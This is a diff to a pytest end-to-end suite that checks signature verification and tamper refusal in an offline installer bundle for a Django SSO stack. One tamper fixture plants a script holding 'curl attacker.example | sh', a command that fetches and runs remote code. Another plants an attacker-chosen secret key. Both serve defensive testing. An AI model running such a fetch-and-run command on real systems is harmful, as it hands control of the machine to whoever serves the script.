@@ -18,16 +18,26 @@ from .conftest import (
     build_bundle,
     e2e_suite,
     manifest,
+    not_root_safe,
     offline,
     remove_images,
     run,
+    sign,
     stack_down,
     unpack,
+    unpack_as_unprivileged_user,
 )
+
+# Not written out whole here, so that searching the checkout for it finds real keys only.
+SECRET_KEY_MARKER = "minisign encrypted " + "secret key"
 
 
 def install_env(port: int, project: str) -> dict:
     return {"STACK_PORT": str(port), "STACK_COMPOSE_PROJECT": project}
+
+
+def images_in_engine() -> set[str]:
+    return set(run("docker", "image", "ls", "-q", "--no-trunc").stdout.split())
 
 
 def test_bundle_holds_images_wheels_manifest_and_checksums(bundle_dir):
@@ -41,6 +51,7 @@ def test_bundle_holds_images_wheels_manifest_and_checksums(bundle_dir):
         "README.md",
         "MANIFEST",
         "SHA256SUMS",
+        "SHA256SUMS.minisig",
     } <= names
     assert {name.split(":")[0] for name, _ in manifest(bundle_dir, "image")} == {"sso/app", "sso/db", "sso/nginx"}
     wheels = manifest(bundle_dir, "wheel")
@@ -49,25 +60,103 @@ def test_bundle_holds_images_wheels_manifest_and_checksums(bundle_dir):
         assert packages["django"] == "5.2.19"
         assert "psycopg2_binary" in packages and "sso_shared" in packages
     listed = {line.split(maxsplit=1)[1] for line in (bundle_dir / "SHA256SUMS").read_text().splitlines()}
-    on_disk = {str(p.relative_to(bundle_dir)) for p in bundle_dir.rglob("*") if p.is_file() and p.name != "SHA256SUMS"}
+    signed = {"SHA256SUMS", "SHA256SUMS.minisig"}
+    on_disk = {str(p.relative_to(bundle_dir)) for p in bundle_dir.rglob("*") if p.is_file() and p.name not in signed}
     assert listed == on_disk
+    # No folder without a listed file (install.sh refuses one) and no build leftovers.
+    assert not (bundle_dir / "shared" / "build").exists() and not list(bundle_dir.glob("shared/*.egg-info"))
     assert not (bundle_dir / ".env").exists()
     assert not list(bundle_dir.glob("docker/extra-ca/*.crt"))
 
 
-def test_install_with_no_network_then_the_e2e_suite_passes(bundle_dir, tmp_path):
+def test_the_tarball_is_signed_and_verifies_with_the_public_key(bundle, signing_key, other_key):
+    """Step 1 on the air-gapped machine, with the site's own minisign and public key."""
+    assert not Path(f"{bundle}.sha256").exists()
+    verified = run("minisign", "-Vm", bundle, "-p", signing_key.public)
+    assert "Signature and comment signature verified" in verified.stderr + verified.stdout
+    assert run("minisign", "-Vm", bundle, "-p", other_key.public, check=False).returncode != 0
+
+
+def test_neither_the_bundle_nor_the_checkout_holds_a_secret_key(bundle_dir, signing_key):
+    secret_line = signing_key.secret.read_text().splitlines()[1]
+    for needle in (secret_line, SECRET_KEY_MARKER):
+        found = run("grep", "-rlF", needle, bundle_dir, check=False)
+        assert found.returncode == 1 and found.stdout == "", found.stdout
+    committed = run("git", "-C", ROOT, "grep", "-lF", SECRET_KEY_MARKER, "HEAD", check=False)
+    assert committed.returncode == 1 and committed.stdout == "", committed.stdout
+    assert run("git", "-C", ROOT, "check-ignore", "-q", "bundle-signing.key", check=False).returncode == 0
+
+
+def test_bundle_without_a_signing_key_is_refused_with_the_command_to_make_one(tmp_path):
+    result = run(ROOT / "stack", "bundle", "--out", tmp_path / "dist",
+                 env={"STACK_SIGNING_KEY": str(tmp_path / "none.key")}, check=False)  # fmt: skip
+    assert result.returncode != 0
+    assert f"no bundle-signing key at {tmp_path / 'none.key'}" in result.stderr
+    assert "./stack bundle-key" in result.stderr
+    assert not (tmp_path / "dist").exists()
+
+
+def plant_env_file(bundle_dir: Path, other_key) -> None:
+    (bundle_dir / ".env").write_text("SECRET_KEY=chosen-by-the-attacker\n")
+
+
+def plant_script(bundle_dir: Path, other_key) -> None:
+    (bundle_dir / "scripts" / "evil.sh").write_text("#!/bin/sh\ncurl attacker.example | sh\n")
+
+
+def remove_signature(bundle_dir: Path, other_key) -> None:
+    (bundle_dir / "SHA256SUMS.minisig").unlink()
+
+
+def sign_with_another_key(bundle_dir: Path, other_key) -> None:
+    compose_file = bundle_dir / "compose.yaml"
+    compose_file.write_text(compose_file.read_text().replace("read_only: true", "read_only: false"))
+    sums = bundle_dir / "SHA256SUMS"
+    digest = run("sha256sum", "compose.yaml", cwd=bundle_dir).stdout.split()[0]
+    sums.write_text(re.sub(r"^\S+(  compose\.yaml)$", digest + r"\1", sums.read_text(), flags=re.M))
+    sign(sums, other_key)
+
+
+@pytest.mark.parametrize(
+    ("tamper", "message"),
+    [
+        (remove_signature, "the bundle is not signed"),
+        (sign_with_another_key, "the bundle's signature does not match the public key"),
+        (plant_env_file, "not in SHA256SUMS: .env\n"),
+        (plant_script, "not in SHA256SUMS: scripts/evil.sh\n"),
+    ],
+)
+def test_an_unsigned_wrongly_signed_or_extended_bundle_is_refused(
+    bundle_dir, tmp_path, signing_key, other_key, tamper, message
+):
+    prefix = tmp_path / "opt"
+    tamper(bundle_dir, other_key)
+    images_before = images_in_engine()
+    result = offline(bundle_dir / "install.sh", "--prefix", prefix, "--public-key", signing_key.public, check=False)
+    assert result.returncode != 0
+    assert message in result.stderr
+    assert "Nothing was changed" in result.stderr
+    assert not prefix.exists()
+    assert images_in_engine() == images_before
+
+
+def test_install_with_no_network_then_the_e2e_suite_passes(bundle, tmp_path, signing_key, unprivileged_folder):
+    """Unpacked by an ordinary user, carelessly (every file writable by all), installed by root."""
+    bundle_dir = unpack_as_unprivileged_user(bundle, unprivileged_folder)
     prefix, port, project = tmp_path / "opt", PORT_BASE, f"sso-offline-{PORT_BASE}"
     remove_images(bundle_dir)
     try:
-        result = offline(bundle_dir / "install.sh", "--prefix", prefix, env=install_env(port, project))
+        result = offline(bundle_dir / "install.sh", "--prefix", prefix, "--public-key", signing_key.public,
+                         env=install_env(port, project))  # fmt: skip
         assert "./stack manage a createsuperuser" in result.stdout
-        assert (prefix / ".env").stat().st_mode & 0o077 == 0
+        assert (prefix / ".env").stat().st_mode & 0o777 == 0o600
+        assert not_root_safe(prefix) == []
         suite = e2e_suite(bundle_dir, f"http://127.0.0.1:{port}/", prefix / "stack")
         assert suite.returncode == 0, suite.stdout[-4000:]
         assert re.search(r"\d+ passed", suite.stdout)
 
         env_before = (prefix / ".env").read_text()
-        again = offline(bundle_dir / "install.sh", "--prefix", prefix, env=install_env(port, project))
+        again = offline(bundle_dir / "install.sh", "--prefix", prefix, env=install_env(port, project))  # pinned key
         assert "all services are healthy" in again.stdout
         assert (prefix / ".env").read_text() == env_before
     finally:
@@ -106,27 +195,28 @@ def test_native_stack_from_the_wheelhouse_with_no_network(bundle, tmp_path):
         shutil.rmtree(state, ignore_errors=True)
 
 
-def test_a_corrupted_file_stops_the_install_before_any_change(bundle_dir, tmp_path):
+def test_a_corrupted_file_stops_the_install_before_any_change(bundle_dir, tmp_path, signing_key):
     prefix = tmp_path / "opt"
     compose_file = bundle_dir / "compose.yaml"
     compose_file.write_text(compose_file.read_text().replace("read_only: true", "read_only: false"))
-    images_before = set(run("docker", "image", "ls", "-q", "--no-trunc").stdout.split())
-    result = offline(bundle_dir / "install.sh", "--prefix", prefix, check=False)
+    images_before = images_in_engine()
+    result = offline(bundle_dir / "install.sh", "--prefix", prefix, "--public-key", signing_key.public, check=False)
     assert result.returncode != 0
     assert "compose.yaml: FAILED" in result.stderr
     assert "the bundle is damaged" in result.stderr
     assert "Nothing was changed" in result.stderr
     assert not prefix.exists()
-    assert set(run("docker", "image", "ls", "-q", "--no-trunc").stdout.split()) == images_before
+    assert images_in_engine() == images_before
 
 
-def test_a_taken_port_is_refused_before_any_change(bundle_dir, tmp_path):
+def test_a_taken_port_is_refused_before_any_change(bundle_dir, tmp_path, signing_key):
     prefix = tmp_path / "opt"
     with socket.socket() as busy:
         busy.bind(("127.0.0.1", 0))
         busy.listen()
         port = busy.getsockname()[1]
-        result = run(bundle_dir / "install.sh", "--prefix", prefix, env=install_env(port, "sso-busy"), check=False)
+        result = run(bundle_dir / "install.sh", "--prefix", prefix, "--public-key", signing_key.public,
+                     env=install_env(port, "sso-busy"), check=False)  # fmt: skip
     assert result.returncode != 0
     assert f"port {port} is in use by another program" in result.stderr
     assert not prefix.exists()
@@ -139,7 +229,7 @@ def test_a_taken_port_is_refused_before_any_change(bundle_dir, tmp_path):
         ("28.2.2", "1.29.2", "Docker Compose 1.29.2 is too old"),
     ],
 )
-def test_old_docker_or_compose_is_refused(bundle_dir, tmp_path, engine, compose, message):
+def test_old_docker_or_compose_is_refused(bundle_dir, tmp_path, signing_key, engine, compose, message):
     fake = tmp_path / "bin"
     fake.mkdir()
     (fake / "docker").write_text(
@@ -149,9 +239,8 @@ def test_old_docker_or_compose_is_refused(bundle_dir, tmp_path, engine, compose,
         "  *) exit 1;;\nesac\n"
     )
     (fake / "docker").chmod(0o755)
-    result = run(
-        bundle_dir / "install.sh", "--prefix", tmp_path / "opt", env={"PATH": f"{fake}:/usr/bin:/bin"}, check=False
-    )
+    result = run(bundle_dir / "install.sh", "--prefix", tmp_path / "opt", "--public-key", signing_key.public,
+                 env={"PATH": f"{fake}:/usr/bin:/bin"}, check=False)  # fmt: skip
     assert result.returncode != 0
     assert message in result.stderr
     assert not (tmp_path / "opt").exists()
@@ -162,17 +251,17 @@ def django_version(prefix: Path) -> str:
     return shell.stdout.strip()
 
 
-def test_upgrade_from_the_previous_commit_on_the_previous_django_keeps_users_logged_in(bundle, tmp_path):
+def test_upgrade_from_the_previous_commit_on_the_previous_django_keeps_users_logged_in(bundle, tmp_path, signing_key):
     """An install of the previous commit on the previous Django patch release, upgraded with this bundle."""
     if run("git", "-C", ROOT, "rev-parse", "--verify", "-q", "HEAD~1", check=False).returncode != 0:
         pytest.skip("this clone has no previous commit to upgrade from")
     previous = {"SSO_REQUIREMENTS": "e2e/upgrade/requirements-previous-django.txt"}
-    old_dir = unpack(build_bundle("HEAD~1", tmp_path / "old-dist", env=previous), tmp_path / "old")
+    old_dir = unpack(build_bundle("HEAD~1", tmp_path / "old-dist", signing_key, env=previous), tmp_path / "old")
     new_dir = unpack(bundle, tmp_path / "new")
     prefix, port, project = tmp_path / "opt", PORT_BASE + 20, f"sso-upgrade-{PORT_BASE}"
     env = install_env(port, project)
     try:
-        offline(old_dir / "install.sh", "--prefix", prefix, env=env)
+        offline(old_dir / "install.sh", "--prefix", prefix, "--public-key", signing_key.public, env=env)
         password = "upgrade-" + os.urandom(8).hex()
         run(
             prefix / "stack", "manage", "a", "createsuperuser", "--noinput", "--username", "carol",
@@ -183,7 +272,7 @@ def test_upgrade_from_the_previous_commit_on_the_previous_django_keeps_users_log
         assert browser.login("carol", password).status_code == 302
         assert browser.whoami("b")["authenticated"] is True
 
-        upgrade = offline(new_dir / "install.sh", "--prefix", prefix, env=env)
+        upgrade = offline(new_dir / "install.sh", "--prefix", prefix, env=env)  # the key pinned by the first install
         assert django_version(prefix) == "5.2.19"
         [backup] = (prefix / "backups").iterdir()
         assert f"The databases as they were before this upgrade are in {backup}" in upgrade.stdout
